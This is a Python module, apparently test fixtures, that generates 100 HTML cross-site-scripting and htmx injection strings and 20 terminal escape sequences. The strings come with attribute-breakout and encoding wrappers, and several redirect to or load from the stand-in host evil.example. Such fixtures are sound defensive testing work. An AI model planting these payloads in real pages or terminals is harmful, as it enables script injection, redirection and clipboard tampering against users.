"""Texts that would do something if a page took them for more than text."""

from __future__ import annotations


def payloads() -> list[str]:
    """100 texts that would do something if the page took them for more than text."""
    bodies = [
        "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg onload=alert({n})></svg>",
        "<iframe src='javascript:alert({n})'></iframe>", "<a href='javascript:alert({n})'>x</a>",
        "<div hx-get='/x{n}' hx-trigger='load'></div>", "<div data-hx-post='/undo' data-hx-trigger='load'></div>",
        "<b hx-on::load='alert({n})' hx-on:click='alert({n})'>x</b>", "<form action='//evil.example/{n}'></form>",
        "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>", "<base href='//evil.example/{n}/'>",
        "<link rel=stylesheet href='//evil.example/{n}.css'>", "<style>@import '//evil.example/{n}'</style>",
        "<p style='background:url(//evil.example/{n})'>x</p>", "<details open ontoggle=alert({n})>x</details>",
        "<input autofocus onfocus=alert({n})>", "<object data='//evil.example/{n}'></object>",
        "<video><source onerror=alert({n})></video>", "<template><script>alert({n})</script></template>",
        "<p id=status hx-swap-oob=true>forged {n}</p>",
    ]  # fmt: skip
    wrappers = [
        "{}",
        "</mark></span></li></ol></main>{}",
        '" onmouseover=alert(1) x="\'>{}<!--',
        "{{{{7*7}}}}{{% raw %}}&lt;{}]]>\u202e",
    ]
    return [wrapper.format(body.format(n=n)) for n, body in enumerate(bodies) for wrapper in wrappers][:80] + [
        f"&#x3c;script&#x3e;alert({n})&#x3c;/script&#x3e; javascript:alert({n}) ${{alert({n})}} \\u003cscript\\u003e"
        for n in range(20)
    ]


def escapes() -> list[str]:
    """20 texts that would do something if a terminal took them for more than text."""
    bodies = [
        "\x1b]0;forged {n}\x07", "\x1b[2J\x1b[H{n}", "\x1b]8;;//evil.example/{n}\x1b\\x\x1b]8;;\x1b\\",
        "\x9b31m{n}\x9b0m", "\x1b]52;c;{n}\x07", "\x1bP+q{n}\x1b\\", "{n}\x08\x08\x08\x7f", "\x00{n}\x1b[8m",
        "\u202e{n}\u2066<script>alert({n})</script>", "\x1bc<img src=x onerror=alert({n})>",
    ]  # fmt: skip
    return [body.format(n=n) for n in (100, 101) for body in bodies]
